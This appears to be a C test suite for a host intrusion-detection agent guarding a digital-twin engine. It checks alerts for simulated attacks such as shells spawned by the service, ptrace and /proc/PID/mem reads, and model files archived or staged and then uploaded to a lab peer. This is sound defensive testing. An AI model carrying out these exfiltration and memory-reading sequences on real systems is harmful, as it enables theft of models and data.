	pid = rh_runf("'%s' connect 127.0.0.1 %d 16", tw.engine, tw.control);
	rh_assert_ok("engine self-call");
	rh_expect_no_alert(&ag, R_CONTROL, pid);

	/* The documented trigger: curl -X POST .../setpoint; and an implant. */
	pid = rh_runf("curl -sf -m 5 -X POST -d value=99 http://127.0.0.1:%d/setpoint", tw.control);
	rh_assert_ok("curl POST");
	al = rh_expect_alert_where(&ag, R_CONTROL, pid, "process.executable", "/usr/bin/curl");
	expect_twin_alert(al, R_CONTROL, "/usr/bin/curl");
	rh_expect_str(al, "event.action", "connect");
	rh_expect_str(al, "destination.ip", "127.0.0.1");
	rh_expect_num(al, "destination.port", tw.control);
	pid = rh_runf("'%s' connect 127.0.0.1 %d 16", tw.implant, tw.control);
	rh_assert_ok("implant");
	al = rh_expect_alert(&ag, R_CONTROL, pid);
	expect_twin_alert(al, R_CONTROL, tw.implant);
	rh_stop(&ag);
}

Test(twin, control_peer_outside_client_networks)
{
	const char *ns, *rc, *rd;
	const cJSON *al;
	pid_t rest, broker;

	twin_setup();
	ns = rh_netns_up(NULL);
	rh_start(&ag, tw.profile);
	/* the engine's API and its broker, reachable from the lab network */
	rest = listener(NULL, tw.engine, "0.0.0.0", tw.control, NULL, &rc);
	broker = listener(NULL, tw.engine, "0.0.0.0", tw.data_port, NULL, &rd);

	/* Near-misses: a loopback client on the control port; a public peer
	 * on the data port. */
	rh_runf("'%s' connect 127.0.0.1 %d 16", tw.lab, tw.control);
	rh_assert_ok("loopback client");
	rh_runf("ip netns exec %s '%s' connect " RH_NS_HOST " %d 16", ns, tw.lab, tw.data_port);
	rh_assert_ok("public peer on the data port");
	wait_conns(rc, 1);
	wait_conns(rd, 1);
	rh_sync(&ag);
	rh_expect_no_alert(&ag, R_PEER, rest);
	rh_expect_no_alert(&ag, R_PEER, broker);

	/* A peer outside client_networks (the lab host) on the control port. */
	rh_runf("ip netns exec %s '%s' connect " RH_NS_HOST " %d 16", ns, tw.lab, tw.control);
	rh_assert_ok("public peer on the control port");
	wait_conns(rc, 2);
	rh_sync(&ag);
	al = rh_expect_alert(&ag, R_PEER, rest);
	expect_twin_alert(al, R_PEER, tw.engine);
	rh_expect_str(al, "event.action", "accept");
	rh_expect_str(al, "source.ip", RH_NS_PEER);
	rh_expect_num(al, "destination.port", tw.control);
	cr_expect_eq(rh_alerts(&ag, R_PEER, rest, NULL), 1,
		     "one accept from outside, one alert (the loopback client is allowed)");
	rh_stop(&ag);
}

Test(twin, shell_or_interpreter_spawned_by_twin_service)
{
	const cJSON *al;
	pid_t pid;

	twin_setup();
	rh_start(&ag, tw.profile);

	/* Near-misses: the deployer running sh -c; the engine starting its own
	 * helper binary. */
	pid = rh_runf("'%s' spawn /bin/sh -c true", tw.deploy);
	rh_assert_ok("deployer sh -c");
	rh_expect_no_alert(&ag, R_SHELL, pid);
	pid = rh_runf("'%s' spawn '%s'", tw.engine, tw.solver);
	rh_assert_ok("engine helper");
	rh_expect_no_alert(&ag, R_SHELL, pid);

	/* Code execution through the service: a shell, python, perl. */
	pid = rh_runf("'%s' spawn /bin/sh -c 'id > /dev/null'", tw.engine);
	rh_assert_ok("engine sh");
	al = rh_expect_alert_where(&ag, R_SHELL, pid, "process.executable", "/usr/bin/dash");
	expect_twin_alert(al, R_SHELL, "/usr/bin/dash");
	rh_expect_str(al, "event.action", "exec");
	rh_expect_str(al, "process.parent.executable", tw.engine);
	pid = rh_runf("'%s' spawn /usr/bin/python3 -c pass", tw.engine);
	rh_assert_ok("engine python3");
	al = rh_expect_alert(&ag, R_SHELL, pid);
	rh_expect_contains(al, "process.executable", "/usr/bin/python3");
	rh_expect_str(al, "process.parent.executable", tw.engine);
	pid = rh_runf("'%s' spawn /usr/bin/perl -e 1", tw.engine);
	rh_assert_ok("engine perl");
	al = rh_expect_alert_where(&ag, R_SHELL, pid, "process.executable", "/usr/bin/perl");
	rh_expect_str(al, "process.parent.executable", tw.engine);
	rh_stop(&ag);
}

Test(twin, service_traced_or_memory_accessed)
{
	const cJSON *al;
	pid_t svc, other, pid;

	twin_setup();
	rh_start(&ag, tw.profile);
	svc = sleeper(tw.engine);
	other = sleeper(tw.lab);

	/* Near-miss: a process that is not a twin service traced and read. */
	pid = rh_runf("'%1$s' ptrace %2$d && '%1$s' pvread %2$d", tw.implant, other);
	rh_assert_ok("trace another process");
	rh_expect_no_alert(&ag, R_TRACE, pid);

	pid = rh_runf("'%s' ptrace %d", tw.implant, svc);
	rh_assert_ok("PTRACE_ATTACH to the engine");
	al = rh_expect_alert_where(&ag, R_TRACE, pid, "event.action", "ptrace");
	expect_twin_alert(al, R_TRACE, tw.implant);
	rh_expect_str(al, "twinguard.ptrace_request", "PTRACE_ATTACH");
	rh_expect_str(al, "target.process.executable", tw.engine);
	rh_expect_num(al, "target.process.pid", svc);
	pid = rh_runf("'%s' pvread %d", tw.implant, svc);
	rh_assert_ok("process_vm_readv of the engine");
	al = rh_expect_alert_where(&ag, R_TRACE, pid, "event.action", "process_vm");
	expect_twin_alert(al, R_TRACE, tw.implant);
	rh_expect_str(al, "twinguard.access", "read");
	rh_expect_str(al, "target.process.executable", tw.engine);
	rh_stop(&ag);
}

Test(twin, process_memory_opened_through_procfs)
{
	char mem[64], tmem[96];
	const cJSON *al;
	pid_t svc, other, pid;

	twin_setup();
	rh_start(&ag, tw.profile);
	svc = sleeper(tw.engine);
	other = sleeper(tw.lab);
	snprintf(mem, sizeof(mem), "/proc/%d/mem", svc);
	snprintf(tmem, sizeof(tmem), "/proc/%d/task/%d/mem", svc, svc);

	/* Near-misses: maps and status; gdb (a debugger) attaching, which
	 * reads through /proc/<pid>/task/<tid>/mem. */
	pid = rh_runf("cat /proc/%1$d/maps /proc/%1$d/status > /dev/null", svc);
	rh_assert_ok("maps, status");
	rh_expect_no_alert(&ag, R_PROCMEM, pid);
	if (access("/usr/bin/gdb", X_OK) == 0) {
		pid = rh_runf("gdb -batch -nx -p %d -ex 'x/x $pc' > /dev/null 2>&1", other);
		rh_assert_ok("gdb");
		rh_expect_no_alert(&ag, R_PROCMEM, pid);
	} else {
		cr_log_warn("no /usr/bin/gdb: the debugger near-miss is not exercised");
	}

	pid = rh_runf("'%s' procmem %d", tw.implant, svc);
	rh_assert_ok("open /proc/PID/mem");
	al = rh_expect_alert(&ag, R_PROCMEM, pid);
	expect_twin_alert(al, R_PROCMEM, tw.implant);
	rh_expect_str(al, "event.action", "open");
	rh_expect_str(al, "file.path", mem);
	pid = rh_runf("dd if=%s of=/dev/null bs=1 count=0 2> /dev/null", tmem);
	rh_assert_ok("open a thread's mem");
	al = rh_expect_alert(&ag, R_PROCMEM, pid);
	expect_twin_alert(al, R_PROCMEM, "/usr/bin/dd");
	rh_expect_str(al, "file.path", tmem);
	rh_stop(&ag);
}

Test(twin, service_stopped_by_unexpected_process)
{
	const cJSON *al;
	pid_t svc, pid;
	int st;

	twin_setup();
	rh_start(&ag, tw.profile);
	svc = sleeper(tw.engine);

	/* Near-misses: SIGUSR1 (not a stopping signal); the engine (a service)
	 * and the deployer stopping and resuming it. */
	pid = rh_runf("kill -USR1 %d", svc);
	rh_assert_ok("kill -USR1");
	rh_expect_no_alert(&ag, R_STOP, pid);
	pid = rh_runf("'%1$s' kill %2$d %3$d && '%1$s' kill %2$d %4$d", tw.engine, svc, SIGSTOP, SIGCONT);
	rh_assert_ok("engine STOP/CONT");
	rh_expect_no_alert(&ag, R_STOP, pid);
	pid = rh_runf("'%1$s' kill %2$d %3$d && '%1$s' kill %2$d %4$d", tw.deploy, svc, SIGSTOP, SIGCONT);
	rh_assert_ok("deployer STOP/CONT");
	rh_expect_no_alert(&ag, R_STOP, pid);

	pid = rh_runf("kill -TERM %d", svc);
	rh_assert_ok("kill -TERM");
	st = bg_reap(svc);
	cr_expect(WIFEXITED(st) && WEXITSTATUS(st) == 0, "engine did not stop on SIGTERM: 0x%x", st);
	al = rh_expect_alert(&ag, R_STOP, pid);
	expect_twin_alert(al, R_STOP, "/usr/bin/dash");
	rh_expect_str(al, "event.action", "kill");
	rh_expect_str(al, "twinguard.signal", "SIGTERM");
	rh_expect_num(al, "target.process.pid", svc);
	rh_expect_str(al, "target.process.executable", tw.engine);
	rh_stop(&ag);
}

Test(twin, unexpected_listener_on_twin_port)
{
	const cJSON *al;
	pid_t pid;

	twin_setup();
	rh_start(&ag, tw.profile);

	/* Near-misses: the engine listening on its data port; an intruder's
	 * listener on a port with no twin role. */
	pid = listener(NULL, tw.engine, "127.0.0.1", tw.data_port, NULL, NULL);
	rh_sync(&ag);
	rh_expect_no_alert(&ag, R_LISTENER, pid);
	pid = listener(NULL, tw.implant, "127.0.0.1", tw.other, NULL, NULL);
	rh_sync(&ag);
	rh_expect_no_alert(&ag, R_LISTENER, pid);

	/* An impostor on the control port (the ready file comes after listen). */
	pid = listener(NULL, tw.implant, "127.0.0.1", tw.control, NULL, NULL);
	rh_sync(&ag);
	al = rh_expect_alert_where(&ag, R_LISTENER, pid, "event.action", "bind");
	expect_twin_alert(al, R_LISTENER, tw.implant);
	rh_expect_num(al, "source.port", tw.control);
	al = rh_expect_alert_where(&ag, R_LISTENER, pid, "event.action", "listen");
	expect_twin_alert(al, R_LISTENER, tw.implant);
	rh_expect_num(al, "source.port", tw.control);
	rh_stop(&ag);
}

/* ======================================================================== */
/* IP theft                                                                 */
/* ======================================================================== */

Test(twin, model_or_data_read_then_sent_out)
{
	char dst[64];
	const cJSON *al;
	pid_t pid;

	twin_setup();
	snprintf(dst, sizeof(dst), RH_NS_PEER ":%d", NS_SINK_PORT);
	lab_netns();
	rh_start(&ag, tw.profile);
	listener(NULL, tw.lab, "127.0.0.1", tw.lsink, NULL, NULL);

	/* Near-misses: a model read then sent to an allowed network; the
	 * engine (services are not step 1) reading it and sending out. */
	pid = rh_runf("'%s' readsend '%s' 127.0.0.1 %d", tw.implant, tw.model, tw.lsink);
	rh_assert_ok("send to loopback");
	rh_expect_no_alert(&ag, R_READ_SENT, pid);
	pid = rh_runf("'%s' readsend '%s' " RH_NS_PEER " %d", tw.engine, tw.model, NS_SINK_PORT);
	rh_assert_ok("engine sends out");
	rh_expect_no_alert(&ag, R_READ_SENT, pid);

	/* One tool reads the model and uploads it (curl -T, an implant). */
	pid = rh_runf("'%s' readsend '%s' " RH_NS_PEER " %d", tw.implant, tw.model, NS_SINK_PORT);
	rh_assert_ok("model upload");
	al = rh_expect_alert_where(&ag, R_READ_SENT, pid, "event.action", "connect");
	expect_twin_alert(al, R_READ_SENT, tw.implant);
	rh_expect_str(al, "destination.ip", RH_NS_PEER);
	rh_expect_num(al, "destination.port", NS_SINK_PORT);
	expect_sequence(al, "lineage", 2);
	expect_step(al, 0, "open", tw.implant, tw.model);
	expect_step(al, 1, "connect", tw.implant, NULL);
	/* The reader's child sends (scp and its ssh): here the shell opens the
	 * data file and its child connects. */
	pid = rh_runf("exec 3< '%s'; '%s' connect " RH_NS_PEER " %d 128", tw.datafile, tw.implant,
		      NS_SINK_PORT);
	rh_assert_ok("data read by the shell, sent by its child");
	al = rh_expect_alert_where(&ag, R_READ_SENT, pid, "event.action", "connect");
	expect_twin_alert(al, R_READ_SENT, tw.implant);
	expect_sequence(al, "lineage", 2);
	expect_step(al, 0, "open", "/usr/bin/dash", tw.datafile);
	if (al) {
		const char *d = rh_jstr(cJSON_GetArrayItem(rh_jget(al, "twinguard.alert.details.steps"), 1),
					"destination");

		cr_expect_str_eq(rh_s(d), dst, "%s: step 1 destination", R_READ_SENT);
	}
	rh_stop(&ag);
}

Test(twin, twin_files_archived_then_sent_out)
{
	uid_t u_file = rh_uid(0), u_pipe = rh_uid(1), u_backup = rh_uid(2);
	const char *out = rh_path("out");
	char key[32];
	const cJSON *al;
	pid_t pid;

	twin_setup();
	rh_setup_sh("install -d -m 0755 -o %u '%s'", u_file, out);
	lab_netns();
	rh_start(&ag, tw.profile);
	listener(NULL, tw.lab, "127.0.0.1", tw.lsink, NULL, NULL);

	/* Near-miss: a backup archive sent to an allowed network. */
	pid = rh_run_asf(u_backup, "tar cf - -C '%s' models data | '%s' readsend - 127.0.0.1 %d",
			 tw.root, tw.implant, tw.lsink);
	rh_assert_ok("backup to loopback");
	rh_expect_no_alert(&ag, R_ARCHIVE, pid);

	/* tar czf x.tgz ...; then upload x.tgz: two commands, one user. */
	pid = rh_run_asf(u_file, "tar czf '%s/twin.tgz' -C '%s' models data config", out, tw.root);
	rh_assert_ok("tar");
	rh_expect_no_alert(&ag, R_ARCHIVE, pid);
	pid = rh_run_asf(u_file, "'%s' readsend '%s/twin.tgz' " RH_NS_PEER " %d", tw.implant, out,
			 NS_SINK_PORT);
	rh_assert_ok("upload");
	al = rh_expect_alert(&ag, R_ARCHIVE, pid);
	expect_twin_alert(al, R_ARCHIVE, tw.implant);
	rh_expect_str(al, "destination.ip", RH_NS_PEER);
	rh_expect_num(al, "user.id", u_file);
	expect_sequence(al, "user", 2);
	expect_step(al, 0, NULL, "/usr/bin/tar", NULL);
	snprintf(key, sizeof(key), "%u", u_file);
	rh_expect_str(al, "twinguard.alert.details.key", key);

	/* tar czf - models | nc host port: siblings in one pipeline. */
	pid = rh_run_asf(u_pipe, "tar czf - -C '%s' models | '%s' readsend - " RH_NS_PEER " %d",
			 tw.root, tw.implant, NS_SINK_PORT);
	rh_assert_ok("tar | send");
	al = rh_expect_alert(&ag, R_ARCHIVE, pid);
	expect_twin_alert(al, R_ARCHIVE, tw.implant);
	expect_sequence(al, "user", 2);
	expect_step(al, 0, NULL, "/usr/bin/tar", NULL);
	rh_stop(&ag);
}

Test(twin, twin_model_staged_in_temporary_directory)
{
	char shm[64], vtmp[64];
	const char *dtmp = rh_path("deploy-stage.onnx"), *cache = rh_path("engine-cache.onnx");
	const cJSON *al;
	pid_t pid;

	twin_setup();
	snprintf(shm, sizeof(shm), "/dev/shm/rh-stage-%d.onnx", (int)getpid());
	snprintf(vtmp, sizeof(vtmp), "/var/tmp/rh-stage-%d.onnx", (int)getpid());
	rh_defer_rm(shm);
	rh_defer_rm(vtmp);
	rh_setup_sh("printf 'int main(void) { return 0; }\\n' > '%s'", rh_path("prog.c"));
	rh_start(&ag, tw.profile);

	/* Near-misses: the deployer staging (itself, and its cp); the engine
	 * writing a cache file in /tmp; the compiler's temporary files. */
	pid = rh_runf("'%1$s' copy '%2$s' '%3$s' && '%1$s' spawn /bin/cp '%2$s' '%3$s.2'", tw.deploy,
		      tw.model, dtmp);
	rh_assert_ok("deployer staging");
	rh_expect_no_alert(&ag, R_STAGED, pid);
	pid = rh_runf("'%s' copy '%s' '%s'", tw.engine, tw.model, cache);
	rh_assert_ok("engine cache");
	rh_expect_no_alert(&ag, R_STAGED, pid);
	pid = rh_runf("gcc -o '%s' '%s'", rh_path("prog"), rh_path("prog.c"));
	rh_assert_ok("gcc");
	rh_expect_no_alert(&ag, R_STAGED, pid);

	/* The documented trigger: cp model /dev/shm/m; and /var/tmp. */
	pid = rh_runf("cp '%s' '%s'", tw.model, shm);
	rh_assert_ok("cp to /dev/shm");
	al = rh_expect_alert(&ag, R_STAGED, pid);
	expect_twin_alert(al, R_STAGED, "/usr/bin/cp");
	rh_expect_str(al, "event.action", "open");
	rh_expect_str(al, "file.path", shm);
	expect_sequence(al, "process", 2);
	expect_step(al, 0, "open", "/usr/bin/cp", tw.model);
	expect_step(al, 1, "open", "/usr/bin/cp", shm);
	pid = rh_runf("cp '%s' '%s'", tw.model, vtmp);
	rh_assert_ok("cp to /var/tmp");
	al = rh_expect_alert(&ag, R_STAGED, pid);
	rh_expect_str(al, "file.path", vtmp);
	rh_stop(&ag);
}

Test(twin, staged_twin_model_sent_out)
{
	uid_t u = rh_uid(0), u_ok = rh_uid(1), u_dep = rh_uid(2);
	const char *stage = rh_path("stage"), *stage_ok = rh_path("stage-ok");
	const char *stage_dep = rh_path("stage-dep");
	char staged[PATH_MAX + 16], staged_ok[PATH_MAX + 16], staged_dep[PATH_MAX + 16], key[32];
	const cJSON *al;
	pid_t pid;

	twin_setup();
	rh_setup_sh("install -d -m 0755 -o %u '%s' && install -d -m 0755 -o %u '%s' && "
		    "install -d -m 0755 -o %u '%s'",
		    u, stage, u_ok, stage_ok, u_dep, stage_dep);
	snprintf(staged, sizeof(staged), "%s/m.onnx", stage);
	snprintf(staged_ok, sizeof(staged_ok), "%s/m.onnx", stage_ok);
	snprintf(staged_dep, sizeof(staged_dep), "%s/m.onnx", stage_dep);
	lab_netns();
	rh_start(&ag, tw.profile);
	listener(NULL, tw.lab, "127.0.0.1", tw.lsink, NULL, NULL);

	/* Near-miss: the same copy, stage, send, to an allowed network. */
	pid = rh_run_asf(u_ok, "cp '%s' '%s'", tw.model, staged_ok);
	rh_assert_ok("stage (allowed)");
	pid = rh_run_asf(u_ok, "'%s' readsend '%s' 127.0.0.1 %d", tw.implant, staged_ok, tw.lsink);
	rh_assert_ok("send to loopback");
	rh_expect_no_alert(&ag, R_STAGED_SENT, pid);

	/* Near-miss: a deployer's staging, then the staged copy sent out. */
	pid = rh_run_asf(u_dep, "'%s' spawn /bin/cp '%s' '%s'", tw.deploy, tw.model, staged_dep);
	rh_assert_ok("deployer stages");
	pid = rh_run_asf(u_dep, "'%s' readsend '%s' " RH_NS_PEER " %d", tw.implant, staged_dep,
			 NS_SINK_PORT);
	rh_assert_ok("send the deployer's copy");
	rh_expect_no_alert(&ag, R_STAGED_SENT, pid);

	/* cp model /tmp/m; then upload /tmp/m: the send is the third step. */
	pid = rh_run_asf(u, "cp '%s' '%s'", tw.model, staged);
	rh_assert_ok("stage");
	rh_expect_no_alert(&ag, R_STAGED_SENT, pid);
	pid = rh_run_asf(u, "'%s' readsend '%s' " RH_NS_PEER " %d", tw.implant, staged, NS_SINK_PORT);
	rh_assert_ok("upload");
	al = rh_expect_alert(&ag, R_STAGED_SENT, pid);
	expect_twin_alert(al, R_STAGED_SENT, tw.implant);
	rh_expect_str(al, "destination.ip", RH_NS_PEER);
	rh_expect_num(al, "destination.port", NS_SINK_PORT);
	rh_expect_num(al, "user.id", u);
	expect_sequence(al, "user", 3);
	expect_step(al, 0, "open", "/usr/bin/cp", tw.model);
	expect_step(al, 1, "open", "/usr/bin/cp", staged);
	expect_step(al, 2, NULL, tw.implant, NULL);
	snprintf(key, sizeof(key), "%u", u);
	rh_expect_str(al, "twinguard.alert.details.key", key);
	rh_stop(&ag);
}

/* 102 MiB in one connection: more than the 100 MiB of the 5-minute rule. */
#define LARGE_BYTES (102L * 1024 * 1024)

Test(twin, large_egress_to_non_allowlisted_destination)
{
	char serve[32];
	const char *ns, *rdy;
	const cJSON *al;
	pid_t pid, ok, udp, served;

	twin_setup();
	ns = lab_netns();
	rh_start_with(&ag, tw.profile, FLOW_CONFIG);
	listener(NULL, tw.lab, "127.0.0.1", tw.lsink, NULL, NULL);
	/* the engine streaming results to a client on its control port */
	snprintf(serve, sizeof(serve), "serve=%ld", LARGE_BYTES);
	served = listener(NULL, tw.engine, "0.0.0.0", tw.control, serve, &rdy);

	/* Near-misses (judged after the stop, which drains the flows): the
	 * same volume to an allowed network; from an unconnected UDP socket
	 * (its flow has no peer: 0.0.0.0); the engine's reply to a client of
	 * its control port (served_reply). */
	ok = rh_runf("'%s' connect 127.0.0.1 %d %ld", tw.implant, tw.lsink, LARGE_BYTES);
	rh_assert_ok("102 MiB to loopback");
	udp = rh_runf("'%s' udp " RH_NS_PEER " %d 60000 1800", tw.implant, NS_SINK_PORT);
	rh_assert_ok("108 MB of datagrams");
	rh_runf("ip netns exec %s '%s' fetch " RH_NS_HOST " %d", ns, tw.lab, tw.control);
	rh_assert_ok("a lab client fetches 102 MiB from the engine");
	wait_conns(rdy, 1);

	pid = rh_runf("'%s' connect " RH_NS_PEER " %d %ld", tw.implant, NS_SINK_PORT, LARGE_BYTES);
	rh_assert_ok("102 MiB out");
	al = rh_wait_alert(&ag, R_LARGE, pid, WAIT_FLOW_MS);
	expect_twin_alert(al, R_LARGE, tw.implant);
	expect_threshold(al, 104857600, 300, RH_NS_PEER);
	rh_stop(&ag);
	rh_expect_no_alert(&ag, R_LARGE, ok);
	rh_expect_no_alert(&ag, R_SUSTAINED, ok);
	rh_expect_no_alert(&ag, R_LARGE, udp);
	rh_expect_no_alert(&ag, R_SUSTAINED, udp);
	rh_expect_no_alert(&ag, R_LARGE, served);
	rh_expect_no_alert(&ag, R_SUSTAINED, served);
}

Test(twin, sustained_egress_to_non_allowlisted_destination)
{
	const cJSON *al;
	pid_t pid, small, ok;

	twin_setup();
	lab_netns();
	rh_start_with(&ag, tw.profile, FLOW_CONFIG);
	listener(NULL, tw.lab, "127.0.0.1", tw.lsink, NULL, NULL);

	/* Near-misses (judged after the stop): 9 MiB out in one minute; 105 x
	 * 100 KiB to an allowed network. */
	small = rh_runf("'%s' connect " RH_NS_PEER " %d %d", tw.implant, NS_SINK_PORT, 9 * 1024 * 1024);
	rh_assert_ok("9 MiB out");
	ok = rh_runf("'%s' connect 127.0.0.1 %d 102400 105", tw.implant, tw.lsink);
	rh_assert_ok("105 x 100 KiB to loopback");

	/* The documented trigger: 105 connections of 100 KiB (10.25 MiB). */
	pid = rh_runf("'%s' connect " RH_NS_PEER " %d 102400 105", tw.implant, NS_SINK_PORT);
	rh_assert_ok("105 x 100 KiB out");
	al = rh_wait_alert(&ag, R_SUSTAINED, pid, WAIT_FLOW_MS);
	expect_twin_alert(al, R_SUSTAINED, tw.implant);
	expect_threshold(al, 10485760, 60, RH_NS_PEER);
	rh_stop(&ag);
	rh_expect_no_alert(&ag, R_SUSTAINED, small);
	rh_expect_no_alert(&ag, R_SUSTAINED, ok);
	rh_expect_no_alert(&ag, R_LARGE, pid);
}
